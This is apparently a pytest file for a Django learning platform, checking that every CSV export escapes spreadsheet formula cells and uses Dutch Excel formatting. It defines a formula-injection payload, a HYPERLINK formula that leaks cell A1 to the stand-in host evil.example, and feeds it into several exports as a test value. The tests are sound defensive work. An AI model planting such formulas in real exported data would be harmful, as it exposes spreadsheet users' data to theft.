"""Issue 15: ONE CSV writer for every export (ours and Wagtail's), Dutch Excel format
(semicolon, decimal comma, UTF-8 BOM), formula cells neutralised, numbers kept numbers; a
name ``=HYPERLINK(...)`` fed through each export."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from lms.accounts.spreadsheet import cell, rows_to_text

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode())  # UTF-8 byte-order mark for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def no_formula(rows) -> bool:
    return not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("gewoon", "gewoon"),
        (Decimal("-12.50"), "-12,50"),
        (Decimal("495.00"), "495,00"),
        (3, "3"),
        (-4, "-4"),
        (None, ""),
    ],
)
def test_cells(value, written):
    assert cell(value) == written


def test_the_text_is_semicolon_separated_with_a_bom():
    assert rows_to_text([["a", Decimal("1.5")], ["b;c", 2]]) == '\ufeffa;1,5\r\n"b;c";2\r\n'


@pytest.mark.django_db
def test_participants_export(client, make_user, run, programme_team_user):
    from lms.enrolment import services

    services.enrol(make_user(first_name=EVIL, last_name="-1"), run)
    client.force_login(programme_team_user)

    rows = read(client.get(reverse("enrolment_run_participants_csv", args=[run.pk])))

    assert rows[1][0] == "'" + EVIL + " -1" and rows[1][4] == "495,00"
    assert no_formula(rows)


@pytest.mark.django_db
def test_newsletter_export(client, programme_team_user):
    from django.utils import timezone

    from lms.accounts.models import Subscriber

    Subscriber.objects.create(
        email="=cmd@example.org", token="t", state="confirmed", confirmed_at=timezone.now()
    )
    client.force_login(programme_team_user)

    rows = read(client.get(reverse("accounts_newsletter_export")))

    assert rows[1][0] == "'=cmd@example.org" and no_formula(rows)


@pytest.mark.django_db
def test_wagtail_site_history_export(client, programme_team_user):
    from lms.accounts import audit
    from lms.accounts.models import Organisation

    organisation = Organisation.objects.create(name=EVIL)
    audit.record(organisation, "accounts.register", user=programme_team_user)
    programme_team_user.is_superuser = True
    programme_team_user.save()
    client.force_login(programme_team_user)

    rows = read(client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv"))

    assert any("'" + EVIL in r for r in rows) and no_formula(rows)


@pytest.mark.django_db
def test_dashboard_export(client, programme_team_user, make_run, make_user, module):
    from tests.reports.test_dashboard_views import ended_run_with_evaluations

    ended_run_with_evaluations(make_run, make_user, module, "TUD-E", 5, EVIL)
    client.force_login(programme_team_user)

    response = client.get("/beheer/resultaten/", {"table": "evaluation_comments", "export": "csv"})
    rows = read(response)

    assert any(value.startswith("'" + EVIL) for r in rows for value in r) and no_formula(rows)
